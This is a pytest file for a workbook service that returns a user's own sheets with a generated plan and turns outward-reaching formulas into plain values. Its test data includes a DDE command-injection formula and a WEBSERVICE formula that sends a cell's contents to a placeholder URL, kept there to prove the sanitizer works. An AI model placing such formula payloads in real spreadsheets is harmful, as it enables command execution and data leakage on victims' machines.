"""Sheets of a user's own: they come back with the plan, and lead nowhere."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from datetime import datetime
from typing import Any

import openpyxl
import pytest
from openpyxl.workbook.defined_name import DefinedName

from app.optimize import examples
from app.sheets.workbook import own_sheets
from app.sheets.workbook.own_sheets import read_own_sheets
from app.sheets.workbook.service import plan_workbook
from tests.app.history.odd_files import unpacked
from tests.app.sheets.workbook.books import book_of

BOOK = book_of(examples.TWO_CURVES, "zh")
CELLS: dict[str, Any] = {
    "A1": "我的备注 & <b>",
    "A2": 1234.5678,
    "A3": datetime(2026, 12, 5),
    "A4": True,
    "B1": "=SUM(A2,1)",
    "B2": "='计划'!B7*2",
    "B3": '=IF(A2>0,"[ok]","no")&A1',
}
ELSEWHERE = {
    "C1": '=WEBSERVICE("http://x/"&A1)',
    "C2": "=[1]Sheet1!A1",
    "C3": "=cmd|'/c calc'!A0",
    "C4": "='别的表'!A1",
    "C5": "=Tax*2",
    "C6": '=HYPERLINK("http://x","x")',
}


def with_sheet(fill: Callable[[Any], None], title: str = "我的表", data: bytes = BOOK) -> bytes:
    """The workbook with a sheet of the user's own."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book.create_sheet(title)
    fill(sheet)
    file = io.BytesIO()
    book.save(file)
    return file.getvalue()


def filled(sheet: Any) -> None:
    """Values, formulas, a width, and a number format."""
    for place, value in (CELLS | ELSEWHERE).items():
        sheet[place] = value
    sheet["A2"].number_format = "0.00%"
    sheet.column_dimensions["A"].width = 31
    sheet.parent.defined_names["Tax"] = DefinedName("Tax", attr_text="'我的表'!$A$2")


def planned(data: bytes, **how: Any) -> bytes:
    """What the service answers to a workbook."""
    return plan_workbook(data, "book.xlsx", how.get("language")).data


def test_values_and_formulas_come_back() -> None:
    """Numbers, days, texts and formulas stand where they stood, as often as the workbook goes round."""
    data = with_sheet(filled)
    for _ in range(2):
        data = planned(data)
        sheet = openpyxl.load_workbook(io.BytesIO(data))["我的表"]
        assert {place: sheet[place].value for place in CELLS} == CELLS
        assert sheet["A2"].number_format == "0.00%"
        assert sheet.column_dimensions["A"].width == pytest.approx(31, abs=0.1)


def test_a_formula_that_leads_elsewhere_comes_back_as_its_value() -> None:
    """Addresses, other files, programs, and sheets or names that are not there: no formula speaks of them."""
    sheet = openpyxl.load_workbook(io.BytesIO(planned(with_sheet(filled))))["我的表"]
    assert {place: sheet[place].data_type for place in ELSEWHERE} == dict.fromkeys(ELSEWHERE, "n")
    english = openpyxl.load_workbook(io.BytesIO(planned(with_sheet(filled), language="en")))["我的表"]
    assert (english["B1"].value, english["B2"].value) == (CELLS["B1"], None)  # there '计划' is called 'Plan'


def test_shared_formulas_and_stored_values_come_back() -> None:
    """One formula for many cells is each cell's own; what cannot be a formula keeps its stored value."""
    rows = "".join(
        f'<row r="{r}"><c r="A{r}"><v>{r}</v></c>'
        f'<c r="B{r}"><f t="shared" si="0"{about}</f><v>{2 * r}</v></c>'
        f'<c r="C{r}"><f t="array" ref="C{r}">A{r}*{{1}}</f><v>{7 * r}</v></c></row>'
        for r, about in ((1, ' ref="B1:B3">A1*2'), (2, ">"), (3, ">"))
    )
    data = with_sheet(lambda sheet: None)
    (part,) = [name for name in unpacked(data) if name.endswith("sheet10.xml")]
    text = unpacked(data)[part].replace(b"<sheetData>", f"<sheetData>{rows}".encode())
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as book:
        for name, content in unpacked(data).items():
            book.writestr(name, text if name == part else content)
    sheet = openpyxl.load_workbook(io.BytesIO(planned(file.getvalue())))["我的表"]
    assert [[cell.value for cell in row] for row in sheet["A1:C3"]] == [
        [r, f"=A{r}*2", 7 * r] for r in (1, 2, 3)
    ]


@pytest.mark.parametrize("title", ["对比2", "Channels", "Plan"])
def test_titles_of_the_other_language_are_the_users_own(title: str) -> None:
    """A sheet called as ours is in another language is the user's own, and is not read in place of ours."""
    data = planned(with_sheet(lambda sheet: sheet.append(["渠道", 1]), title))
    assert openpyxl.load_workbook(io.BytesIO(data))[title]["A1"].value == "渠道"


def test_what_is_left_out_is_named(monkeypatch: pytest.MonkeyPatch) -> None:
    """A sheet that is too large does not come back, and 'Start here' says so."""
    monkeypatch.setattr(own_sheets, "MOST_CELLS", 5)
    book = openpyxl.load_workbook(io.BytesIO(planned(with_sheet(filled))))
    assert "我的表" not in book.sheetnames
    assert "我的表" in [cell.value for row in book["使用说明"] for cell in row]


def test_the_services_own_sheets_are_no_users() -> None:
    """A workbook as it was downloaded has no sheet of a user's own."""
    assert read_own_sheets(BOOK, "book.xlsx", "zh").sheets == []
